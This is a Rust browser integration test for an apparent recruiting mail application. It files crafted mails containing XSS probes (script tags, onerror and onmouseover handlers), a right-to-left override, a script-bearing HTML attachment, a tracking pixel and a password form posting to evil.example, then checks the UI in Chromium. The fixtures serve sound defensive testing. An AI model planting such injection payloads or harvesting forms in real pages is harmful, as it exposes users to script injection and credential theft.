//! The web page in a real browser: this test starts the real binary on the
//! example config, files a hostile application (a script in the name and
//! subject, an RTL override, an HTML attachment), a contract only the
//! operator may see and a mail the matcher leaves unassigned, then runs
//! `tests/browser/web.mjs`: Playwright driving Debian's Chromium headless
//! (installed by `.ci/run`). Screenshots of every page go to
//! `target/screenshots/web/`.

use std::path::Path;
use std::process::Command;

use super::client::*;
use crate::support::harness::*;
use crate::support::upstream::{AtDot, Upstream, relayed_directory};

/// The 250 reply's message id.
fn message_id(text: &str) -> i64 {
    text.trim()
        .rsplit(' ')
        .next()
        .and_then(|t| t.parse().ok())
        .expect("a message id")
}

fn hostile_application() -> Vec<u8> {
    use data_encoding::BASE64_MIME;
    format!(
        "From: \"<img src=x onerror=alert(1)>Erika \u{202e}Muster\" <erika@example.org>\r\n\
To: jobs+backend@acme.example\r\nSubject: Bewerbung <script>alert(1)</script>\r\n\
Message-ID: <web-erika@example.org>\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
Guten Tag,\r\nanbei meine Unterlagen.\r\n--b\r\nContent-Type: application/pdf\r\n\
Content-Disposition: attachment; filename=\"Lebenslauf.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n\
--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=\"portfolio.html\"\r\n\r\n\
<html><body><script>alert('portfolio')</script></body></html>\r\n--b--\r\n",
        BASE64_MIME.encode(&one_page_pdf("Lebenslauf Erika Muster"))
    )
    .into_bytes()
}

/// A PDF of one page saying `text`, as a browser's viewer renders it.
fn one_page_pdf(text: &str) -> Vec<u8> {
    let content = format!("BT /F1 24 Tf 40 100 Td ({text}) Tj ET");
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_string(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_string(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 200] /Contents 4 0 R \
         /Resources << /Font << /F1 5 0 R >> >> >>"
            .to_string(),
        format!(
            "<< /Length {} >>\nstream\n{content}\nendstream",
            content.len()
        ),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_string(),
    ];
    let mut pdf = String::from("%PDF-1.4\n");
    let mut offsets = Vec::new();
    for (i, object) in objects.iter().enumerate() {
        offsets.push(pdf.len());
        pdf.push_str(&format!("{} 0 obj\n{object}\nendobj\n", i + 1));
    }
    let xref = pdf.len();
    pdf.push_str(&format!(
        "xref\n0 {}\n0000000000 65535 f \n",
        objects.len() + 1
    ));
    for offset in offsets {
        pdf.push_str(&format!("{offset:010} 00000 n \n"));
    }
    pdf.push_str(&format!(
        "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
        objects.len() + 1
    ));
    pdf.into_bytes()
}

#[test]
fn a_recruiter_works_through_the_page_in_chromium_and_sees_only_what_her_role_may() {
    let node_modules = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser/node_modules");
    assert!(
        node_modules.join("playwright-core").exists() && Path::new("/usr/bin/chromium").exists(),
        "the browser tests need `npm ci --prefix tests/browser` and Debian's chromium (.ci/run installs both)"
    );
    let up = Upstream::start();
    let (d, base) = api_daemon_with("", &relayed_directory(&up));
    let mut c = d.connect();
    c.ehlo();
    let (code, text) = c.transaction(
        "erika@example.org",
        "jobs+backend@acme.example",
        &stuff(&hostile_application()),
    );
    assert_eq!(code, 250, "{text}");
    let erika_message = message_id(&text);
    let m = json(d.cli(&["message", "show", &erika_message.to_string(), "--json"]));
    let erika = m["candidate"]["id"].as_i64().expect("Erika is a candidate");
    let document = |name: &str| {
        m["attachments"]
            .as_array()
            .expect("attachments")
            .iter()
            .find(|a| a["filename"] == name)
            .and_then(|a| a["id"].as_i64())
            .unwrap_or_else(|| panic!("{name} in {m}"))
    };
    let (cv, portfolio) = (document("Lebenslauf.pdf"), document("portfolio.html"));
    let shown = json(d.cli(&["candidate", "show", &erika.to_string(), "--json"]));
    let erika_application = shown["applications"][0]["id"]
        .as_i64()
        .expect("application");

    // A contract, which only the operator's role may see.
    let files = tempfile::tempdir().expect("temp dir");
    let contract_path = files.path().join("Arbeitsvertrag.pdf");
    std::fs::write(&contract_path, b"%PDF-1.4 Arbeitsvertrag").expect("write");
    let file = format!("file=@{};type=application/pdf", contract_path.display());
    let upload = curl_with(
        &base,
        "POST",
        &format!("/api/v1/candidates/{erika}/documents"),
        Some("olaf"),
        &["-F", &file, "-F", "category=contract"],
    );
    assert_eq!(
        upload.status,
        201,
        "{}",
        String::from_utf8_lossy(&upload.body)
    );
    let contract = upload.json()["documents"][0]["id"]
        .as_i64()
        .expect("contract");

    // A colleague's question: unassigned, and nobody to suggest.
    let (code, text) = c.transaction(
        "petra@acme-group.example",
        "jobs@acme.example",
        b"From: Petra Vogel <petra@acme-group.example>\r\nTo: jobs@acme.example\r\n\
Subject: Frage zur Bewerbung von Erika\r\n\r\nIst die Bewerbung vollstaendig?\r\n",
    );
    assert_eq!(code, 250, "{text}");
    let colleague = message_id(&text);

    // Two candidates share an address: their mail waits, unassigned.
    let mut kims = Vec::new();
    for (name, position) in [
        ("Kim Weber", "backend-rust"),
        ("Kim Lee", "account-exec-paris"),
    ] {
        let a = curl(
            &base,
            "POST",
            "/api/v1/candidates",
            Some("olaf"),
            Some(&format!(
                r#"{{"name": "{name}", "email": "kim@example.org", "position": "{position}"}}"#
            )),
        );
        assert_eq!(a.status, 201);
        kims.push(a.json()["candidate"].as_i64().expect("candidate"));
    }
    let mail = mail_with_pdfs("Kim <kim@example.org>", "jobs@acme.example", &[]);
    let (code, text) = c.transaction("kim@example.org", "jobs@acme.example", &stuff(&mail));
    assert_eq!(code, 250, "{text}");

    // A newsletter-shaped HTML mail: a script, a form, a tracking pixel.
    let tracker = format!("http://127.0.0.1:{}/pixel.gif", free_port());
    let html_mail = format!(
        "From: Portal <news@portal.example>\r\nTo: jobs@acme.example\r\nSubject: Ihr Profil\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"a\"\r\n\r\n--a\r\n\
Content-Type: text/plain; charset=utf-8\r\n\r\nHallo\r\n--a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
<html><body><h2>Hallo Team</h2><script>alert('mail')</script><img src=\"{tracker}\" alt=\"pixel\">\
<form action=\"https://evil.example/\"><input name=\"pw\"><button>OK</button></form>\
<p onmouseover=\"alert('hover')\">Ein Profil</p></body></html>\r\n--a--\r\n"
    );
    let (code, text) = c.transaction(
        "news@portal.example",
        "jobs@acme.example",
        &stuff(html_mail.as_bytes()),
    );
    assert_eq!(code, 250, "{text}");
    let html_message = message_id(&text);

    // A mail scheduled for later, for the queue page to cancel.
    let scheduled = curl(
        &base,
        "POST",
        "/api/v1/send",
        Some("olaf"),
        Some(&format!(
            r#"{{"template": "rejection", "candidates": [{}], "at": "2030-01-15 09:00"}}"#,
            kims[1]
        )),
    );
    assert_eq!(
        scheduled.status,
        200,
        "{}",
        String::from_utf8_lossy(&scheduled.body)
    );
    let scheduled_item = scheduled.json()["queued"][0]["item"]
        .as_i64()
        .expect("a scheduled item");

    // A mail to Kim Weber that the upstream refuses for good, once
    // everything before it (the acknowledgements) has gone: the thread
    // shows it failed, with the upstream's words.
    let settled = |q: &serde_json::Value| {
        q["items"].as_array().is_some_and(|items| {
            items.iter().all(|i| {
                !["queued", "sending", "deferred"].contains(&i["state"].as_str().unwrap_or(""))
            })
        })
    };
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !settled(&json(d.cli(&["queue", "list", "--json"]))) {
        assert!(
            std::time::Instant::now() < deadline,
            "the queue never settled"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    up.then(&[AtDot::Permanent]);
    let refused = curl(
        &base,
        "POST",
        "/api/v1/send",
        Some("olaf"),
        Some(&format!(
            r#"{{"template": "rejection", "candidates": [{}]}}"#,
            kims[0]
        )),
    );
    assert_eq!(
        refused.status,
        200,
        "{}",
        String::from_utf8_lossy(&refused.body)
    );
    let refused_item = refused.json()["queued"][0]["item"].as_i64().expect("item");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let q = json(d.cli(&["queue", "show", &refused_item.to_string(), "--json"]));
        if q["item"]["state"] == "failed" {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "never failed: {q}");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }

    let shots = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/screenshots/web");
    let scenario = serde_json::json!({
        "base": base,
        "shots": shots,
        "anna_token": token("anna"),
        "olaf_token": token("olaf"),
        "erika": erika,
        "erika_message": erika_message,
        "erika_application": erika_application,
        "cv": cv,
        "portfolio": portfolio,
        "contract": contract,
        "kim_weber": kims[0],
        "colleague": colleague,
        "html_message": html_message,
        "tracker": tracker,
        "scheduled_item": scheduled_item,
        "refused_item": refused_item,
    });
    let out = Command::new("node")
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser/web.mjs"))
        .env("JOBMAIL_WEB", scenario.to_string())
        .output()
        .expect("node runs");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        out.status.success(),
        "the browser run failed:\n{stdout}\n{stderr}\n{}",
        d.log()
    );
    assert!(stdout.contains("all checks passed"), "{stdout}");

    // The mail composed in the browser reached the upstream: the
    // template's subject, the new file and the CV sent again.
    let got = up.wait_for(3, 20);
    let first = got
        .iter()
        .find(|d| String::from_utf8_lossy(&d.data).contains("Agenda.pdf"))
        .expect("the mail composed to Erika");
    let mail = String::from_utf8_lossy(&first.data).into_owned();
    assert_eq!(first.to, vec!["erika@example.org"]);
    let parsed = jobmail::inbound::parse::parse_message(&first.data, false);
    // From the sender chosen on the page, as its preview said.
    assert!(
        parsed
            .headers
            .from
            .as_ref()
            .is_some_and(|f| f.address == "anna.berger@acme.example"),
        "{mail}"
    );
    assert!(
        parsed
            .headers
            .subject
            .as_deref()
            .is_some_and(|s| s.starts_with("Einladung zum Vorstellungsgespräch")),
        "{mail}"
    );
    let names: Vec<&str> = parsed
        .documents
        .iter()
        .map(|d| d.filename.as_str())
        .collect();
    for name in ["Agenda.pdf", "Lebenslauf.pdf", "Anfahrt-ACME-Muenchen.pdf"] {
        assert!(names.contains(&name), "{name} not in {names:?}");
    }
    // The bulk: one rejection each to the position's two candidates.
    let mut rejected: Vec<String> = got
        .iter()
        .filter(|d| {
            jobmail::inbound::parse::parse_message(&d.data, false)
                .headers
                .subject
                .is_some_and(|s| s.starts_with("Ihre Bewerbung"))
        })
        .flat_map(|d| d.to.clone())
        .collect();
    rejected.sort();
    assert_eq!(rejected, ["erika@example.org", "kim@example.org"]);
    // The invitation scheduled on the page waits in the queue for its
    // time (the test daemon's zone is UTC) and has not gone.
    let q = json(d.cli(&["queue", "list", "--json", "--state", "scheduled"]));
    let later: Vec<&serde_json::Value> = q["items"]
        .as_array()
        .expect("items")
        .iter()
        .filter(|i| i["candidate"] == kims[0])
        .collect();
    assert_eq!(later.len(), 1, "{q}");
    assert_eq!(later[0]["not_before"], "2031-03-01T09:00:00.000Z", "{q}");
    let invited_kim = got.iter().any(|m| {
        m.to == ["kim@example.org"]
            && jobmail::inbound::parse::parse_message(&m.data, false)
                .headers
                .subject
                .is_some_and(|s| s.starts_with("Einladung"))
    });
    assert!(!invited_kim, "the scheduled invitation did not go");
    for page in [
        "sign-in",
        "inbox",
        "unassigned",
        "candidate",
        "candidate-en",
        "inbox-phone",
        "candidate-operator",
        "message-text",
        "message-html",
        "compose",
        "sent",
        "queue",
        "settings",
        "candidates",
        "compose-bulk",
        "inbox-search",
        "candidate-delivery",
        "sent-scheduled",
        "document-pdf",
        "sent-skipped",
    ] {
        assert!(
            shots.join(format!("{page}.png")).exists(),
            "no screenshot of {page}"
        );
    }
}
